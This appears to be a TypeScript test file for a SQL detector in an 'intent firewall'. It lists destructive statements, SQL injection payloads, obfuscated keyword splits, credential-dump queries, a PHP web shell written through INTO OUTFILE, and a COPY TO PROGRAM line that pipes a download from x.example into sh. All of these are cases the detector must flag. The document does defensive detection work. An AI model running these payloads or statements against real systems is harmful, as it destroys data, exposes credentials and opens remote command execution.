/**
 * The `sql` detector: destructive statements across dialects and clients, injection payloads, and
 * the prose and ordinary queries that must stay quiet. Every case below was written here.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { lexSql, MAX_TOKENS } from '../../../src/firewall/detectors/_sql-lex.js';
import { sqlDetector } from '../../../src/firewall/detectors/sql.js';
import { IntentFirewall } from '../../../src/firewall/index.js';
import { detectorTable, findingsOf, idsOf } from './_scan.js';

const scan = (text: string, rescans?: string[]) => findingsOf(sqlDetector, text, rescans);
const ids = (text: string) => idsOf(sqlDetector, text);

/** [text, finding id, severity]: each must be reported. Provenance: written here. */
const POSITIVE: readonly (readonly [string, string, string])[] = [
  ['DROP DATABASE production;', 'sql.drop-database', 'critical'],
  // Keywords split by empty quote pairs, which a shell removes before the client reads them.
  ['upd\'\'ate accounts s""et balance = 0', 'sql.update-all', 'high'],
  ["dr''op table users;", 'sql.drop-object', 'high'],
  // Schemas dropped by an ORM, every Redis key deleted through a scan, SQLAlchemy's bulk delete.
  ['sequelize.drop({ cascade: true }).then(() => process.exit(0))', 'sql.drop-object', 'critical'],
  ['await sequelize.sync({ force: true });', 'sql.drop-object', 'high'],
  [
    "redis-cli -h cache.internal --scan --pattern '*' | xargs -L 500 redis-cli -h cache.internal del",
    'sql.nosql-flush',
    'high',
  ],
  ['redis-cli --scan | xargs redis-cli unlink', 'sql.nosql-flush', 'high'],
  ['session.query(Order).delete(synchronize_session=False)', 'sql.orm-delete-all', 'high'],
  ['please run DROP TABLE users', 'sql.drop-object', 'high'],
  ['In prod, DELETE FROM users;', 'sql.delete-all', 'high'],
  ['drop schema public cascade', 'sql.drop-database', 'critical'],
  ['DROP KEYSPACE analytics;', 'sql.drop-database', 'critical'],
  ['DROP OWNED BY app_user CASCADE;', 'sql.drop-database', 'critical'],
  ['DROP TABLE users;', 'sql.drop-object', 'high'],
  ['drop table if exists import_2024;', 'sql.drop-object', 'medium'],
  ['DROP TABLE users CASCADE;', 'sql.drop-object', 'critical'],
  ['DROP TABLE orders, customers, invoices;', 'sql.drop-object', 'critical'],
  ['DROP TABLE hr.employees PURGE', 'sql.drop-object', 'critical'],
  ['DROP TABLE [dbo].[Users] GO', 'sql.drop-object', 'high'],
  ['DROP TABLE `shop`.`orders`;', 'sql.drop-object', 'high'],
  ['DROP USER bob;', 'sql.drop-object', 'high'],
  ['DROP ROLE readonly;', 'sql.drop-object', 'high'],
  ['DROP MATERIALIZED VIEW sales_summary;', 'sql.drop-object', 'high'],
  ['DROP INDEX idx_email ON users;', 'sql.drop-object', 'high'],
  ['DR/**/OP TABLE users', 'sql.drop-object', 'high'],
  ['DROP/**/TABLE/**/users', 'sql.drop-object', 'high'],
  ['/*!50000DROP*/ TABLE users', 'sql.drop-object', 'high'],
  ['DrOp TaBlE accounts;', 'sql.drop-object', 'high'],
  ['TRUNCATE TABLE orders;', 'sql.truncate', 'high'],
  ['truncate orders', 'sql.truncate', 'high'],
  ['TRUNCATE orders, order_items RESTART IDENTITY CASCADE;', 'sql.truncate', 'high'],
  ['DELETE FROM users;', 'sql.delete-all', 'high'],
  ['delete from users where 1=1', 'sql.delete-all', 'high'],
  ["DELETE FROM users WHERE 'a'='a';", 'sql.delete-all', 'high'],
  ['DELETE FROM users WHERE true', 'sql.delete-all', 'high'],
  // MySQL's multi-table form, aliases first.
  ['DELETE o FROM orders o;', 'sql.delete-all', 'high'],
  // Triggers off, administrator passwords replaced, tablespaces with their files, backups to nowhere.
  ['ALTER TABLE ledger DISABLE TRIGGER ALL;', 'sql.alter-drop-constraint', 'medium'],
  ["ALTER USER postgres WITH PASSWORD 'letmein';", 'sql.privilege-grant', 'medium'],
  ["ALTER USER 'root'@'%' IDENTIFIED BY 'changeme';", 'sql.privilege-grant', 'medium'],
  ['DROP TABLESPACE app_data INCLUDING CONTENTS AND DATAFILES;', 'sql.drop-database', 'critical'],
  ["BACKUP LOG sales TO DISK = 'NUL';", 'sql.purge', 'high'],
  ['DELETE FROM users WHERE id = 3 OR 1=1', 'sql.delete-all', 'high'],
  ['DELETE FROM logs LIMIT 1000', 'sql.delete-all', 'high'],
  ['delete from public.accounts as a;', 'sql.delete-all', 'high'],
  ["UPDATE users SET role='admin';", 'sql.update-all', 'high'],
  ['update accounts set balance = 0 where 1 = 1', 'sql.update-all', 'high'],
  ["UPDATE users u SET password_hash = '' WHERE u.id > 0 OR 2>1", 'sql.update-all', 'high'],
  ['ALTER TABLE users DROP COLUMN email;', 'sql.alter-drop-column', 'high'],
  ['ALTER TABLE orders DROP PARTITION p2023;', 'sql.alter-drop-column', 'high'],
  ['ALTER TABLE users DROP CONSTRAINT users_pkey;', 'sql.alter-drop-constraint', 'medium'],
  ['GRANT ALL PRIVILEGES ON DATABASE prod TO PUBLIC;', 'sql.privilege-grant', 'high'],
  ["GRANT ALL ON *.* TO 'x'@'%' WITH GRANT OPTION;", 'sql.privilege-grant', 'high'],
  ['ALTER USER app WITH SUPERUSER;', 'sql.privilege-grant', 'high'],
  ['ALTER ROLE reporting SUPERUSER', 'sql.privilege-grant', 'high'],
  ['CREATE ROLE ops WITH LOGIN SUPERUSER PASSWORD $1', 'sql.privilege-grant', 'high'],
  ['GRANT pg_execute_server_program TO app;', 'sql.privilege-grant', 'high'],
  ["EXEC xp_cmdshell 'whoami';", 'sql.os-command', 'critical'],
  ["EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;", 'sql.os-command', 'critical'],
  ["COPY (SELECT '') TO PROGRAM 'curl http://x.example/s | sh';", 'sql.os-command', 'critical'],
  ["COPY logs FROM PROGRAM 'cat /etc/passwd';", 'sql.os-command', 'critical'],
  ["SELECT sys_exec('id');", 'sql.os-command', 'critical'],
  ["SELECT LOAD_FILE('/etc/passwd')", 'sql.file-read', 'high'],
  ["SELECT pg_read_file('/etc/passwd')", 'sql.file-read', 'high'],
  ["SELECT * FROM OPENROWSET(BULK 'C:\\secrets.txt', SINGLE_CLOB) AS x", 'sql.file-read', 'high'],
  ["SELECT '<?php system($_GET[1]); ?>' INTO OUTFILE '/var/www/html/s.php'", 'sql.file-write', 'high'],
  ["SELECT x FROM t INTO DUMPFILE '/tmp/lib.so'", 'sql.file-write', 'high'],
  ['PURGE RECYCLEBIN;', 'sql.purge', 'high'],
  ['SELECT username, password_hash FROM users', 'sql.credential-dump', 'medium'],
  ['select * from pg_shadow', 'sql.credential-dump', 'medium'],
  ['SELECT user, authentication_string FROM mysql.user;', 'sql.credential-dump', 'medium'],
  ["username: admin' OR '1'='1", 'sql.injection-tautology', 'high'],
  ["' OR 1=1 --", 'sql.injection-tautology', 'high'],
  ['" or ""="', 'sql.injection-tautology', 'high'],
  ["x') or ('a'='a", 'sql.injection-tautology', 'high'],
  ["' or true--", 'sql.injection-tautology', 'high'],
  ["?id=1'+OR+1=1", 'sql.injection-tautology', 'high'],
  ["SELECT * FROM users WHERE name = '' OR 1=1", 'sql.injection-tautology', 'high'],
  ["1'; DROP TABLE users; --", 'sql.injection-stacked', 'high'],
  ["x'; update users set role='admin' --", 'sql.injection-stacked', 'high'],
  ["name'; exec xp_cmdshell 'dir'--", 'sql.injection-stacked', 'high'],
  ["admin'--", 'sql.injection-comment', 'medium'],
  ["admin'#", 'sql.injection-comment', 'medium'],
  ["admin') -- ", 'sql.injection-comment', 'medium'],
  ['1; SELECT pg_sleep(10)--', 'sql.injection-blind', 'medium'],
  ["1'; WAITFOR DELAY '0:0:5'--", 'sql.injection-blind', 'medium'],
  ["1' AND SLEEP(5)#", 'sql.injection-blind', 'medium'],
  ['id=1 UNION SELECT username, password FROM users', 'sql.injection-union', 'high'],
  ["' UNION SELECT null, null, table_name FROM information_schema.tables--", 'sql.injection-union', 'high'],
  ['0 union all select @@version, 2', 'sql.injection-union', 'high'],
  ['psql -c "DROP DATABASE prod"', 'sql.drop-database', 'critical'],
  ["psql -U postgres -d app -c 'TRUNCATE TABLE audit_log CASCADE'", 'sql.truncate', 'high'],
  ['psql --command="DROP SCHEMA app CASCADE"', 'sql.drop-database', 'critical'],
  ['mysql -u root -p -e "DROP DATABASE wordpress"', 'sql.drop-database', 'critical'],
  ['sqlite3 app.db "DELETE FROM users"', 'sql.delete-all', 'high'],
  ['sqlcmd -S . -Q "DROP DATABASE Sales"', 'sql.drop-database', 'critical'],
  ['echo "DELETE FROM sessions;" | psql app', 'sql.delete-all', 'high'],
  ['{"query": "DELETE FROM accounts"}', 'sql.delete-all', 'high'],
  ['dropdb production', 'sql.drop-database', 'critical'],
  ['sudo -u postgres dropdb -h localhost --if-exists prod_db', 'sql.drop-database', 'critical'],
  ['mysqladmin -u root -p drop wordpress', 'sql.drop-database', 'critical'],
  ['redis-cli FLUSHALL', 'sql.nosql-flush', 'critical'],
  ['redis-cli -h cache.internal -n 0 flushdb', 'sql.nosql-flush', 'critical'],
  ['FLUSHALL ASYNC', 'sql.nosql-flush', 'critical'],
  ['mongo --eval "db.dropDatabase()"', 'sql.nosql-drop', 'critical'],
  ["mongosh app --eval 'db.users.drop()'", 'sql.nosql-drop', 'high'],
  ['db.getCollection("orders").drop()', 'sql.nosql-drop', 'high'],
  ['db.orders.deleteMany({})', 'sql.nosql-delete-all', 'high'],
  ['db.sessions.remove({ })', 'sql.nosql-delete-all', 'high'],
  // ORMs and query builders: a terminal delete or truncate whose chain has no filter.
  ['Ticket.objects.all().delete()', 'sql.orm-delete-all', 'high'],
  ['REVOKE ALL PRIVILEGES ON DATABASE shop FROM shop_app;', 'sql.privilege-revoke', 'medium'],
  ['revoke all on schema public from reporting', 'sql.privilege-revoke', 'medium'],
  ['dropdb -h pg-main.prod.internal -p 5432 -U admin ledger', 'sql.drop-database', 'critical'],
  ['AuditEntry.objects.delete()', 'sql.orm-delete-all', 'high'],
  ['db.session.query(Ticket).delete()', 'sql.orm-delete-all', 'high'],
  ['Ticket.query.delete(); db.session.commit()', 'sql.orm-delete-all', 'high'],
  ['await prisma.ticket.deleteMany()', 'sql.orm-delete-all', 'high'],
  ['Ticket.destroy_all', 'sql.orm-delete-all', 'high'],
  ['Ticket.all.delete_all', 'sql.orm-delete-all', 'high'],
  ["DB::table('tickets')->truncate();", 'sql.orm-delete-all', 'high'],
  ['Ticket::truncate();', 'sql.orm-delete-all', 'high'],
  ["await knex('tickets').del()", 'sql.orm-delete-all', 'high'],
  ["await knex('tickets').truncate()", 'sql.orm-delete-all', 'high'],
  ['await Ticket.destroy({ where: {}, truncate: true })', 'sql.orm-delete-all', 'high'],
  ['await Ticket.truncate()', 'sql.orm-delete-all', 'high'],
  ['await ticketRepository.clear()', 'sql.orm-delete-all', 'high'],
  ["DB::table('tickets')->delete();", 'sql.orm-delete-all', 'high'],
];

/** [text, the id that must NOT be reported (or null: nothing at all)]. Provenance: written here. */
const NEGATIVE: readonly (readonly [string, string | null])[] = [
  ['await sequelize.sync({ alter: true });', null],
  ['SELECT \'it\'\'s\' AS greeting, """name""" FROM t WHERE id = 1', null],
  ["redis-cli --scan --pattern 'cache:tmp:*' | xargs redis-cli unlink", null],
  ['redis-cli --scan --pattern "*" | head -20', null],
  ['session.query(Order).filter(Order.id == 5).delete(synchronize_session=False)', null],
  // ORM deletes narrowed by a filter, and calls of the same names on things that are not tables.
  ['Ticket.objects.filter(status="closed").delete()', null],
  ['REVOKE INSERT ON orders FROM reporting_ro;', null],
  ['revoke the old API token in the dashboard', null],
  ['dropdb --help', null],
  ['Ticket.objects.get(pk=ticket_id).delete()', null],
  ['db.session.query(Ticket).filter(Ticket.id == tid).delete()', null],
  ['await prisma.ticket.deleteMany({ where: { closedAt: { lt: cutoff } } })', null],
  ['Ticket.where(status: :spam).destroy_all', null],
  ["await knex('tickets').where('id', id).del()", null],
  ["DB::table('tickets')->where('votes', '>', 100)->delete();", null],
  ['await Ticket.destroy({ where: { id } })', null],
  ['cache.clear()', null],
  ['seen.delete(key)', null],
  ['map.clear(); set.clear();', null],
  ['with open(path, "r+") as f: f.truncate()', null],
  ['Remove the ticket: ticket.delete()', null],
  ["SELECT * FROM employees WHERE dept = 'sales'", null],
  ['SELECT name, salary FROM employees ORDER BY salary DESC LIMIT 10;', null],
  ['DELETE FROM sessions WHERE expires_at < now()', null],
  ["UPDATE users SET name='x' WHERE id=3", null],
  ['UPDATE orders SET status = $1 WHERE id = $2 AND 1=1', null],
  ['DELETE FROM cart WHERE 1=1 AND user_id = 7', null],
  ['CREATE TABLE foo (id int primary key)', null],
  ["INSERT INTO logs (msg) VALUES ('drop table users')", 'sql.drop-object'],
  ['the truncate function shortens a string', null],
  ['use the truncate helper for long names', null],
  ['.truncate { overflow: hidden; text-overflow: ellipsis; white-space: nowrap; }', null],
  ['<p class="truncate text-sm">…</p>', null],
  ["Let's drop table support from the roadmap", null],
  ['Describe how DROP TABLE works', null],
  ['Describe the SQL TRUNCATE command', null],
  ['Explain what DELETE FROM does', null],
  ['we ran DROP TABLE audit.events yesterday', null],
  ['drop me a line when you are free', null],
  ['delete from the list the items that are done', null],
  ['update the set of tests to cover this', null],
  ['git rm old.txt && git commit -m "drop unused file"', null],
  ['dropdb is a wrapper around the SQL command', null],
  ['ALTER TABLE users ADD COLUMN email text;', null],
  ['ALTER TABLE users ALTER COLUMN name DROP DEFAULT;', 'sql.alter-drop-column'],
  ['GRANT SELECT ON employees TO analyst;', null],
  ['SELECT * FROM users', null],
  ['SELECT a FROM t1 UNION SELECT a FROM t2', null],
  ["It's a shame; don't worry, we'll fix it", null],
  ["He said 'or maybe not' and left", null],
  ['db.orders.deleteMany({ status: "done" })', null],
  ['redis-cli GET session:42', null],
  ['What does FLUSHALL do in redis?', 'sql.nosql-flush'],
  ['COPY users TO STDOUT WITH CSV HEADER', null],
  ['time.sleep(5)', null],
  ['await sleep(100); retry()', null],
  ['const m = re.exec(line) // or 1 more', null],
  ['SELECT count(*) FROM orders WHERE total > 100 OR status = 1', null],
  ['DELETE o FROM orders o JOIN users u ON u.id = o.user_id WHERE u.id = 42;', null],
  ['ALTER TABLE ledger ENABLE TRIGGER ALL;', null],
  ["ALTER USER report_reader WITH PASSWORD 'rotated-2026';", null],
  ["BACKUP DATABASE sales TO DISK = 'D:\\backups\\sales.bak';", null],
  ['please delete the file from the list', null],
];

describe('the sql detector', () => {
  detectorTable(sqlDetector, POSITIVE, NEGATIVE, [
    'sql.drop-database',
    'sql.drop-object',
    'sql.truncate',
    'sql.delete-all',
    'sql.update-all',
    'sql.alter-drop-column',
    'sql.alter-drop-constraint',
    'sql.privilege-grant',
    'sql.privilege-revoke',
    'sql.os-command',
    'sql.file-read',
    'sql.file-write',
    'sql.purge',
    'sql.credential-dump',
    'sql.injection-tautology',
    'sql.injection-stacked',
    'sql.injection-union',
    'sql.injection-comment',
    'sql.injection-blind',
    'sql.nosql-flush',
    'sql.nosql-drop',
    'sql.nosql-delete-all',
    'sql.orm-delete-all',
  ]);

  it('points findings inside the segment, with short evidence', () => {
    for (const [text] of POSITIVE) {
      for (const f of scan(text)) {
        expect(f.start).toBeGreaterThanOrEqual(0);
        expect(f.end).toBeLessThanOrEqual(text.length);
        expect(f.end).toBeGreaterThanOrEqual(f.start);
        expect(f.evidence.length).toBeLessThanOrEqual(120);
      }
    }
  });
});

describe('values spelled in pieces', () => {
  const rescans = (text: string) => {
    const out: string[] = [];
    sqlDetector.scan(text, {
      report: () => {},
      rescan: (decoded) => {
        out.push(decoded);
        return undefined;
      },
    });
    return out;
  };

  it.each([
    ["EXEC('DR' + 'OP TABLE users')", 'DROP TABLE users'],
    ["EXEC('TRUNC' || 'ATE TABLE orders')", 'TRUNCATE TABLE orders'],
    ['SELECT CHAR(68,82,79,80,32,84,65,66,76,69,32,117,115,101,114,115)', 'DROP TABLE users'],
    ["EXEC(CHAR(68)+CHAR(82)+CHAR(79)+CHAR(80)+' DATABASE prod')", 'DROP DATABASE prod'],
    ['SET @q = 0x44524f50205441424c45207573657273; EXEC(@q)', 'DROP TABLE users'],
  ])('joins %j into %j and examines it again', (text, joined) => {
    expect(rescans(text)).toEqual([joined]);
  });

  it.each([
    "SELECT first_name || ' ' || last_name FROM employees",
    "const s = 'hello ' + name + '!'",
    "SELECT 'a' || 'b' FROM t",
  ])('leaves %j alone', (text) => {
    expect(rescans(text)).toEqual([]);
  });

  it('blocks a split DROP end to end', () => {
    const v = new IntentFirewall().validateRequest({
      id: 't',
      content: 'SELECT CHAR(68,82,79,80,32,68,65,84,65,66,65,83,69,32,112)',
    });
    expect(v.decision).toBe('block');
  });
});

/** Statements whose finding must not depend on case, spacing or comments between words. */
const SPELLABLE = [
  'DROP TABLE users;',
  'DROP DATABASE prod',
  'TRUNCATE TABLE orders',
  'DELETE FROM users',
  "UPDATE users SET role = 'admin'",
  'ALTER TABLE users DROP COLUMN email',
];

describe('the sql detector, by property', () => {
  it('reads keywords in any case, with any spacing and with comments between words', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...SPELLABLE),
        fc.array(fc.boolean(), { minLength: 40, maxLength: 40 }),
        fc.constantFrom(' ', '  ', '\t', ' /* x */ ', '/**/', '\n'.replace('\n', ' \t ')),
        (text, flips, gap) => {
          const want = ids(text);
          const cased = [...text].map((c, i) => (flips[i % flips.length] ? c.toUpperCase() : c.toLowerCase())).join('');
          const respaced = cased.replace(/ /g, gap);
          expect(ids(respaced)).toEqual(want);
        },
      ),
    );
  });

  it('finds a statement wherever a client quotes it', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...SPELLABLE),
        fc.constantFrom('psql -c "%"', "mysql -e '%'", 'sqlite3 db.sqlite "%"', 'sqlcmd -Q "%"', '{"sql": "%"}'),
        (stmt, wrapper) => {
          expect(ids(wrapper.replace('%', stmt))).toEqual(expect.arrayContaining(ids(stmt)));
        },
      ),
    );
  });

  it('never throws and keeps offsets inside the segment on arbitrary text', () => {
    const piece = fc.oneof(
      fc.string({ unit: 'grapheme', maxLength: 12 }),
      fc.constantFrom(
        "'",
        '"',
        '`',
        '[',
        ']',
        '/*',
        '*/',
        '--',
        ';',
        '(',
        ')',
        'DROP',
        'TABLE',
        'delete',
        'FROM',
        'where',
        'or',
        '1=1',
        'union',
        'select',
        ' ',
        '\ud800',
        'set',
        '=',
      ),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (parts) => {
        const text = parts.join('');
        for (const f of scan(text)) {
          expect(f.start).toBeGreaterThanOrEqual(0);
          expect(f.end).toBeLessThanOrEqual(text.length);
        }
      }),
      { numRuns: 500 },
    );
  });

  it('tokenizes every string into ordered tokens inside the range', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
        const tokens = lexSql(text, 0, text.length);
        let last = 0;
        for (const t of tokens) {
          expect(t.start).toBeGreaterThanOrEqual(last);
          expect(t.end).toBeGreaterThan(t.start);
          expect(t.end).toBeLessThanOrEqual(text.length);
          last = t.end;
        }
      }),
      { numRuns: 500 },
    );
  });

  it('reads hostile segments of the largest size to the end', () => {
    const n = 8192;
    const hostile = [
      "'".repeat(n),
      '/*'.repeat(n / 2),
      'drop table a, '.repeat(n / 14),
      'update update set '.repeat(n / 18),
      '('.repeat(n),
      "' or '1'='1".repeat(n / 11),
      'DR/**/'.repeat(n / 6),
      'db.x.deleteMany({'.repeat(n / 17),
    ];
    for (const text of hostile) {
      expect(() => scan(text.slice(0, n))).not.toThrow();
      expect(lexSql(text, 0, text.length).length).toBeLessThanOrEqual(MAX_TOKENS);
    }
  });
});
